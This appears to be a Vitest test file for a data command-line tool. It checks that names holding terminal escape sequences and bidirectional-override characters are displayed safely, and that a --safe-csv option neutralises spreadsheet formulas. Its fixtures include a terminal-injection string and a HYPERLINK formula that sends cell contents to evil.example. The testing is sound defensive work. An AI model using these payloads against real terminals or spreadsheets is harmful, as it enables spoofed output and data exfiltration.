import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { someOf } from '../../endurance.js';
import { copyRegionStore } from '../../store-templates.js';
import { type Ending, type RunOptions, runCommand, temporaryFolder } from '../capture.js';

const ESC = '\u001b';
/** Sets the title of the terminal, moves its cursor, turns text around, and ends the line. */
const HOSTILE = `Ames ${ESC}]0;owned\u0007\u009b2J\u202eemA\u2066\u007f\nerror: lost`;

const folder = temporaryFolder();
const file = join(folder, `rows${ESC}[31m.csv`);
const [document, store] = [join(folder, 'document.json'), join(folder, 'farm.duckdb')];

const inStore = (...argv: readonly string[]) => [...argv, '--store', store];
const REJECTS = ['--rejects', join(folder, 'rejects.csv')];
const IMPORT = [...inStore('import', document, file), ...REJECTS];
const SERIES = ['--item', HOSTILE, '--metric', 'Temperature', '--region', 'Ames'];

beforeAll(async () => {
  const rows = [1, 2, 3].map((day) => `"S1","${HOSTILE}",2020-01-0${day},${day}`);
  const bad = `"S1","${HOSTILE}",${ESC}[2J,x`;
  writeFileSync(file, ['station,name,day,value', ...rows, bad, bad].join('\n'));
  writeFileSync(
    document,
    JSON.stringify({
      source: { name: HOSTILE, licence: HOSTILE },
      define: { items: { [HOSTILE]: {} } },
      region: { station: 'station', latitude: 42, longitude: -93, name: 'name' },
      start_date: { column: 'day', format: 'YYYY-MM-DD' },
      metric: { name: 'Temperature' },
      unit: { name: '°C' },
      values: [{ column: 'value', item: { name: HOSTILE } }],
    }),
  );
  await copyRegionStore(store);
  const { code, stderr } = await runCommand([...IMPORT, '--max-rejects', '9']);
  if (code !== 0) throw new Error(stderr);
});

/** What a terminal gets, without what the command itself uses to draw a progress bar. */
const received = ({ stdout, stderr }: Ending) => (stdout + stderr).replaceAll(`\r${ESC}[2K`, '');

const UNSEEN = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
const CALLS: readonly (readonly [string, readonly string[]])[] = [
  ['import', IMPORT],
  ['import --dry-run', [...IMPORT, '--dry-run', '--max-rejects', '9']],
  ['import --suggest', ['import', file, '--suggest']],
  ['store check', inStore('store', 'check')],
  ['store check --json', inStore('store', 'check', '--json')],
  ['search', inStore('search', 'items', 'Ames')],
  ['search --json', inStore('search', 'regions', 'Ames', '--json')],
  ['find', inStore('find', ...SERIES)],
  ['find --json', inStore('find', ...SERIES, '--json')],
  ['points', inStore('points', ...SERIES, '--names')],
  ['points of a name that is none', inStore('points', '--item', `${HOSTILE}x`, '--region', HOSTILE)],
  ['df', inStore('df', ...SERIES, '--names')],
  ['df --wide', inStore('df', ...SERIES, '--wide', '--names')],
  ['units', inStore('units')],
  ['a command that is none', [`${HOSTILE}`]],
  ['an option that is none', ['points', `--${HOSTILE}`]],
  ['a missing store', ['store', 'check', '--store', join(folder, HOSTILE)]],
];

describe.each([
  ['a terminal', { terminal: true }],
  ['a pipe', {}],
] as const)('names with control characters, written to %s', (_, options: RunOptions) => {
  const frames = options.terminal === true ? [] : ['points', 'df', 'df --wide'];

  const calls = CALLS.filter(([name]) => !frames.includes(name));

  it.each(someOf(calls, 5))('are shown as what they are by %s', async (_, argv) => {
    const text = received(await runCommand(argv, options));
    expect(text).not.toBe('');
    expect(text.replace(/\r\n|[\n\t]/g, '')).not.toMatch(UNSEEN);
  });
});

describe('data for other programs', () => {
  it('keeps the names as they are', async () => {
    const { stdout: csv } = await runCommand(inStore('df', ...SERIES, '--names'));
    expect(csv).toContain(HOSTILE);
    const { stdout: json } = await runCommand(inStore('df', ...SERIES, '--names', '--json'));
    expect(JSON.parse(json)[0]).toMatchObject({
      region_name: HOSTILE,
      item_name: HOSTILE,
      source_name: HOSTILE,
    });
    expect(readFileSync(join(folder, 'rejects.csv'), 'utf8')).toContain(`${ESC}[2J`);
  });

  it('is shown safely, and is the same JSON, on a terminal', async () => {
    const ending = await runCommand(inStore('df', ...SERIES, '--names', '--json'), { terminal: true });
    expect(received(ending).replaceAll('\n', '')).not.toMatch(UNSEEN);
    expect(JSON.parse(ending.stdout)[0]).toMatchObject({ region_name: HOSTILE });
  });
});

describe('--safe-csv', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';

  it('puts an apostrophe before names that a spreadsheet takes for formulas, and is for CSV only', async () => {
    const [own, out] = [join(folder, 'formulas.csv'), join(folder, 'out.csv')];
    writeFileSync(own, `station,name,day,value\nS2,"${FORMULA.replaceAll('"', '""')}",2020-01-01,-5`);
    const imported = await runCommand(inStore('import', document, own));
    expect(imported.code).toBe(0);
    const series = ['--item', HOSTILE, '--metric', 'Temperature', '--region', FORMULA, '--names'];
    const { stdout } = await runCommand(inStore('points', ...series));
    expect(stdout).toContain(`,"${FORMULA.replaceAll('"', '""')}",`);
    const safe = await runCommand(inStore('points', ...series, '--safe-csv', '--out', out));
    expect(safe.code).toBe(0);
    expect(readFileSync(out, 'utf8')).toContain(`,"'${FORMULA.replaceAll('"', '""')}",`);
    expect(readFileSync(out, 'utf8')).toContain(',-5,');
    const parquet = await runCommand(
      inStore('points', ...series, '--safe-csv', '--format', 'parquet', '--out', out),
    );
    expect(parquet).toMatchObject({ code: 2, stderr: expect.stringContaining('--safe-csv is only for CSV') });
  });
});
